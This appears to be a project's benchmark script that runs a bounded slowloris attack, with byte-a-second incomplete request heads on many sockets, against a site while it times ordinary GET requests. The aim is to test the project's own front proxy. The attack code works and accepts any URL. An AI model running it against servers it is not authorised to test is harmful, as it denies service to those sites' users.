"""Slow-client attack ("slowloris") against a running site, while normal requests are timed.

Usage::

    python benchmarks/slow_clients.py http://127.0.0.1:8080 [--connections 20] [--duration 30]
                                      [--path /search?near=LS6] [--interval 0.1]

``--connections`` sockets each send a request head one byte per second (never
finishing it), reopening whenever the server drops them, for ``--duration``
seconds. Meanwhile each ordinary client sends a GET (new connection each time,
5 s timeout) every ``--interval`` seconds (``--clients`` such clients), cycling through ``--path`` values,
and records status and latency. Prints the figures and a last line starting
``RESULT``. tests/robustness/test_front_proxy.py runs the same attack against
deploy/run-local.sh.
"""

from __future__ import annotations

import argparse
import http.client
import math
import socket
import threading
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit


@dataclass
class AttackReport:
    """What the ordinary client saw while the slow clients were connected."""

    latencies_ms: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    slow_connects: int = 0
    slow_dropped_by_server: int = 0
    seconds: float = 0.0

    @property
    def requests(self) -> int:
        return len(self.latencies_ms) + len(self.failures)

    def percentile(self, share: float) -> float:
        if not self.latencies_ms:
            return math.inf
        ordered = sorted(self.latencies_ms)
        return ordered[min(len(ordered) - 1, math.ceil(share * len(ordered)) - 1)]

    def summary(self) -> str:
        return (
            f"{self.requests} normal requests in {self.seconds:.0f} s: {len(self.latencies_ms)} ok, "
            f"{len(self.failures)} failed; p50 {self.percentile(0.50):.0f} ms, p99 {self.percentile(0.99):.0f} ms, "
            f"max {max(self.latencies_ms, default=math.inf):.0f} ms; slow connections opened {self.slow_connects}, "
            f"dropped by the server {self.slow_dropped_by_server}"
        )


def _slow_client(host: str, port: int, stop: threading.Event, report: AttackReport, lock: threading.Lock) -> None:
    head = f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: slow\r\nX-Padding: ".encode()
    while not stop.is_set():
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError:
            stop.wait(0.2)
            continue
        with lock:
            report.slow_connects += 1
        try:
            sock.settimeout(0.01)
            for byte in head + b"a" * 100_000:
                sock.send(bytes([byte]))
                try:
                    if sock.recv(1024) == b"":  # the server closed (or answered 408 and closed)
                        raise ConnectionResetError
                except TimeoutError:
                    pass
                if stop.wait(1.0):
                    break
        except OSError:
            with lock:
                report.slow_dropped_by_server += 1
        finally:
            sock.close()


def _normal_get(host: str, port: int, path: str, timeout: float) -> int:
    connection = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        connection.request("GET", path, headers={"Accept": "text/html,application/json"})
        response = connection.getresponse()
        response.read()
        return response.status
    finally:
        connection.close()


def attack(
    url: str,
    paths: list[str],
    *,
    connections: int = 20,
    duration: float = 30.0,
    interval: float = 0.1,
    timeout: float = 5.0,
    clients: int = 1,
) -> AttackReport:
    """Run the bounded attack and time ordinary GETs meanwhile (bounded: ``duration`` + a few seconds)."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    report = AttackReport()
    stop = threading.Event()
    lock = threading.Lock()
    attackers = [
        threading.Thread(target=_slow_client, args=(host, port, stop, report, lock), name=f"slow-{n}", daemon=True)
        for n in range(connections)
    ]
    for thread in attackers:
        thread.start()
    if connections:
        time.sleep(min(2.0, duration / 4))  # let every slow connection get in first
    started = time.monotonic()
    deadline = started + duration

    def normal_client(offset: int) -> None:
        number = offset
        while time.monotonic() < deadline:
            path = paths[number % len(paths)]
            number += 1
            began = time.monotonic()
            try:
                status = _normal_get(host, port, path, timeout)
            except OSError as exc:
                with lock:
                    report.failures.append(f"{path}: {type(exc).__name__} {exc}")
            else:
                with lock:
                    if status == 200:
                        report.latencies_ms.append((time.monotonic() - began) * 1000)
                    else:
                        report.failures.append(f"{path}: HTTP {status}")
            time.sleep(max(0.0, interval - (time.monotonic() - began)))

    normal = [threading.Thread(target=normal_client, args=(n,), name=f"normal-{n}") for n in range(clients)]
    try:
        for thread in normal:
            thread.start()
        for thread in normal:
            thread.join()
    finally:
        report.seconds = time.monotonic() - started
        stop.set()
        for thread in attackers:
            thread.join(timeout=5)
    return report


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url")
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--duration", type=float, default=30.0)
    parser.add_argument("--interval", type=float, default=0.1)
    parser.add_argument("--path", action="append", default=None)
    parser.add_argument("--clients", type=int, default=1, help="Ordinary clients, each sending every --interval seconds.")
    options = parser.parse_args()
    report = attack(
        options.url,
        options.path or ["/", "/search?near=LS6"],
        connections=options.connections,
        duration=options.duration,
        interval=options.interval,
        clients=options.clients,
    )
    print(report.summary())
    for failure in report.failures[:5]:
        print("  failed:", failure)
    print(
        f"RESULT slow_clients={options.connections} clients={options.clients} ok={len(report.latencies_ms)} failed={len(report.failures)} "
        f"p99_ms={report.percentile(0.99):.0f}"
    )


if __name__ == "__main__":
    main()
